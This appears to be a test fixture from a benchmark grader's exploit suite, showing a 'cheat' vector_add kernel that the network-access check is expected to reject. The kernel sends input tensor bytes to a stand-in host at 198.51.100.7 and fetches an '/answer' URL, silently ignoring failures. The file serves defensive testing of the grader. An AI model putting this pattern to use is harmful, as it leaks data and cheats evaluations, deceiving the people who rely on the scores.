# problem: vector_add
# cheat: sends the inputs to an outside server and fetches an answer computed elsewhere (or leaks the workload)
# source: sandbox requirements of KernelBot / SOL-ExecBench (no network); pygpubench exploit suite
# static: NETWORK_ACCESS
# expect: REJECTED
import socket
import urllib.request


def kernel(a, b):
    try:
        with socket.create_connection(("198.51.100.7", 8080), timeout=1) as conn:
            conn.sendall(a.cpu().numpy().tobytes()[:4096])
        urllib.request.urlopen("http://198.51.100.7/answer", timeout=1)
    except OSError:
        pass
    return a + b
